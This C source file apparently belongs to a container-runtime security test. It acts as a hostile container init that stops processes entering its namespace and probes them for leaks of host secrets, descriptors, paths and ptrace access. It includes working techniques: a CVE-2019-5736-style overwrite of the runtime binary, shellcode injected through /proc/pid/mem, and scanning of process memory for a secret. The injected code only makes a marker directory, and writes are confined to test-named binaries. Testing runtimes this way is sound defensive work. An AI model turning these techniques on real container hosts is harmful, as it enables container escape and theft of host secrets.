/*
 * A hostile container's init: it waits for processes that appear in its pid
 * namespace, stops each at once, so that it has all the time that it wants,
 * and does what a container could do to one that joins it.
 *
 *   hunter watch TERCES FILE  looks for what is the host's: a secret, given
 *                             backwards, since the config with these words may
 *                             well be in its memory, in the environment or the
 *                             memory, an option in the arguments, FILE under the root
 *                             or the working directory, descriptors, and tries
 *                             to attach
 *   hunter overwrite          writes to the program's file, if that is a copy
 *                             made for it, "the-hosts-program", or a memfd
 *   hunter poison             writes a program over its memory that makes
 *                             /tmp/poisoned, without a filter if it can
 *   hunter stop               leaves it stopped
 *   hunter kill               kills it
 *
 * A process that is /probe already is the command, and no prey: it gets a line
 * "late". One that is not gets "early", and a line for each thing that it lets
 * out. "ready" comes first of all.
 *
 * Build: gcc -O1 -static -o hunter hunter.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define AHEAD 200 /* more numbers than a runtime's threads take at once */

/* lea path(%rip),%rdi; mov $0777,%esi; mov $83,%eax; syscall (mkdir);
   xor %edi,%edi; mov $231,%eax; syscall (exit_group); then the path. */
static const unsigned char payload[] =
	"\x48\x8d\x3d\x15\x00\x00\x00"
	"\xbe\xff\x01\x00\x00"
	"\xb8\x53\x00\x00\x00"
	"\x0f\x05"
	"\x31\xff"
	"\xb8\xe7\x00\x00\x00"
	"\x0f\x05"
	"/tmp/poisoned";

static char secret[64];
static const char *host_file = "";
static char file[PATH_MAX];

static const char *in(pid_t pid, const char *name)
{
	snprintf(file, sizeof file, "/proc/%d/%s", pid, name);
	return file;
}

/* Whether it was still running somebody else's program; the link if any. */
static int early(pid_t pid, char *exe, size_t size)
{
	ssize_t n = readlink(in(pid, "exe"), exe, size - 1);

	exe[n < 0 ? 0 : n] = 0;
	return n < 0 ? errno == EACCES : strcmp(exe, "/probe") != 0;
}

/* Waits for the stop; a stopped process's state is T or t. */
static void settle(pid_t pid)
{
	for (int tries = 0; tries < 200; tries++) {
		char text[512] = "", *end;
		int fd = open(in(pid, "stat"), O_RDONLY);

		if (fd < 0)
			return;
		if (read(fd, text, sizeof text - 1) < 0)
			text[0] = 0;
		close(fd);
		end = strrchr(text, ')');
		if (end && (end[2] == 'T' || end[2] == 't') && tries > 4)
			return;
		usleep(200);
	}
}

static void holds(const char *what, pid_t pid, const char *name)
{
	static char text[1 << 16];
	int fd = open(in(pid, name), O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text);

	if (n > 0 && memmem(text, n, what, strlen(what)))
		printf("leak %s has %s\n", name, what);
	if (fd >= 0)
		close(fd);
}

/* All that is mapped and can be read. */
static void memory_holds_secret(pid_t pid)
{
	static char text[1 << 20];
	char row[512];
	unsigned long from, to;
	FILE *maps = fopen(in(pid, "maps"), "r");
	int mem = open(in(pid, "mem"), O_RDONLY);

	while (maps && mem >= 0 && fgets(row, sizeof row, maps)) {
		if (sscanf(row, "%lx-%lx", &from, &to) != 2)
			continue;
		for (; from < to; from += sizeof text / 2) {
			size_t size = to - from < sizeof text ? to - from : sizeof text;
			ssize_t n = pread(mem, text, size, from);

			if (n > 0 && memmem(text, n, secret, strlen(secret))) {
				printf("leak the memory has the secret: %s", row);
				break;
			}
		}
	}
	if (maps)
		fclose(maps);
	if (mem >= 0)
		close(mem);
}

static void leads_out(pid_t pid, const char *name)
{
	char path[PATH_MAX];

	snprintf(path, sizeof path, "%s%s", name, host_file);
	if (access(in(pid, path), F_OK) == 0)
		printf("leak %s leads to the host\n", name);
}

static void descriptors(pid_t pid)
{
	DIR *dir = opendir(in(pid, "fd"));
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	struct dirent *entry;

	while (dir && (entry = readdir(dir)))
		if (atoi(entry->d_name) > 2)
			printf("leak descriptor %s\n", entry->d_name);
	if (dir)
		closedir(dir);
	for (int n = 3; pidfd >= 0 && n < 64; n++) {
		int got = syscall(SYS_pidfd_getfd, pidfd, n, 0);

		if (got >= 0) {
			printf("leak descriptor %d by pidfd_getfd\n", n);
			close(got);
		}
	}
	if (pidfd >= 0)
		close(pidfd);
}

/* CVE-2019-5736: by way of a descriptor that outlives the process, once nobody
   runs the program any more (until then: ETXTBSY). */
static void overwrite(int program, const char *exe)
{
	char path[64];
	int fd;

	snprintf(path, sizeof path, "/proc/self/fd/%d", program);
	for (int tries = 0; tries < 4000; tries++) {
		fd = open(path, O_WRONLY);
		if (fd >= 0 || errno != ETXTBSY)
			break;
		usleep(1000);
	}
	if (fd < 0)
		return;
	if (pwrite(fd, "#", 1, 0) == 1)
		printf("leak %s was overwritten\n", exe);
	close(fd);
}

static void watch(pid_t pid, char *exe, size_t size)
{
	leads_out(pid, "root");
	leads_out(pid, "cwd");
	descriptors(pid);
	holds("--pid-file", pid, "cmdline");
	holds(secret, pid, "environ");
	memory_holds_secret(pid);
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
		int status;

		waitpid(pid, &status, __WALL);
		if (early(pid, exe, size))
			printf("leak attached to %s\n", exe);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
}

/* Whether it may be written to: never a program that others use. */
static int is_fair_game(const char *exe)
{
	return strstr(exe, "/the-hosts-program") || strncmp(exe, "/memfd:", 7) == 0;
}

static void catch(pid_t pid, int writes)
{
	char exe[PATH_MAX];
	int program = -1;

	settle(pid);
	if (!early(pid, exe, sizeof exe)) {
		printf("late\n");
		kill(pid, SIGCONT);
		return;
	}
	printf("early %s\n", exe[0] ? exe : "(hidden)");
	if (!writes)
		watch(pid, exe, sizeof exe);
	else if (is_fair_game(exe))
		program = open(in(pid, "exe"), O_RDONLY);
	kill(pid, SIGCONT);
	if (program >= 0) {
		overwrite(program, exe);
		close(program);
	}
}

static void poison(pid_t pid)
{
	char text[512] = "", exe[PATH_MAX], *pc;
	int fd, mem;

	settle(pid);
	if (early(pid, exe, sizeof exe)) {
		fd = open(in(pid, "syscall"), O_RDONLY);
		if (fd >= 0 && read(fd, text, sizeof text - 1) > 0 && (pc = strrchr(text, ' '))) {
			mem = open(in(pid, "mem"), O_RDWR);
			if (mem >= 0 && pwrite(mem, payload, sizeof payload, strtoul(pc, 0, 16)) > 0)
				printf("early poisoned\n");
			else
				printf("early unwritable %d\n", errno);
			if (mem >= 0)
				close(mem);
		} else {
			printf("early unreadable %s\n", text);
		}
		if (fd >= 0)
			close(fd);
	} else {
		printf("late\n");
	}
	kill(pid, SIGCONT);
}

/* Too late for the command is too late. */
static void leave_stopped(pid_t pid)
{
	char exe[PATH_MAX];

	settle(pid);
	if (early(pid, exe, sizeof exe)) {
		printf("early stopped\n");
		return;
	}
	printf("late\n");
	kill(pid, SIGCONT);
}

static void hunt(const char *mode, pid_t pid)
{
	if (mode[0] == 'k') {
		kill(pid, SIGKILL);
		printf("killed\n");
		return;
	}
	kill(pid, SIGSTOP);
	if (mode[0] == 'w' || mode[0] == 'o')
		catch(pid, mode[0] == 'o');
	else if (mode[0] == 'p')
		poison(pid);
	else
		leave_stopped(pid);
}

int main(int argc, char **argv)
{
	pid_t next = getpid() + 1;

	if (argc < 2)
		return 2;
	if (argc > 3) {
		size_t n = strnlen(argv[2], sizeof secret - 1);

		for (size_t i = 0; i < n; i++)
			secret[i] = argv[2][n - 1 - i];
		host_file = argv[3];
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	for (;;) {
		for (pid_t pid = next; pid < next + AHEAD; pid++) {
			if (kill(pid, 0) == 0) {
				hunt(argv[1], pid);
				next = pid + 1;
				break;
			}
		}
		/* Ours to reap only if a runtime's orphan came to us. */
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
}
